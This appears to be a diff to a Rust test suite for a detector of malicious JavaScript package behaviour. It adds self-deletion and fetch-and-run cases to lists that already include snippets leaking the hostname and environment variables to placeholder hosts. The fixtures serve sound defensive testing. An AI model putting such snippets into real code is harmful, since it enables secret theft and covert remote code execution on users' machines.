@@ -159,6 +159,7 @@ fn data_is_followed_from_where_it_is_read_to_where_it_leaves() {
         ("require('dns').resolve(require('os').hostname() + '.x.example', () => {})", SendsIdentity),
         ("fetch('http://45.33.32.156/x')", ContactsAddress),
         ("require('fs').unlinkSync(__filename)", SelfDelete),
+        ("require('fs').unlinkSync(require('path').resolve('.', __filename))", SelfDelete),
     ] {
         shows(code, signal);
     }
@@ -166,6 +167,10 @@ fn data_is_followed_from_where_it_is_read_to_where_it_leaves() {
         ("const c = { env: process.env, url: 'https://a.example' }; fetch(c.url)", SendsEnvironment),
         ("fetch(process.env.SERVICE_URL, { body: x })", SendsEnvironment),
         ("if (Object.keys(process.env).length) fetch('https://a.example')", SendsEnvironment),
+        (
+            "const p = require('path'); require('fs').unlinkSync(p.join(p.dirname(__filename), 'bin', 'x'))",
+            SelfDelete,
+        ),
         (
             "require('child_process').spawn('ls', [], { env: process.env }); fetch('https://a.example')",
             SendsEnvironment,
@@ -177,6 +182,11 @@ fn data_is_followed_from_where_it_is_read_to_where_it_leaves() {
             SendsEnvironment,
         ),
         ("require('net').connect(process.env, 'localhost')", SendsEnvironment),
+        (
+            "(async () => { const b = await (await fetch(u)).arrayBuffer(); const { instance } = await WebAssembly.instantiate(b); \
+             new Function('a', 'return a' + instance.exports.count())(1) })()",
+            RunsFetched,
+        ),
     ] {
         hides(code, signal);
     }
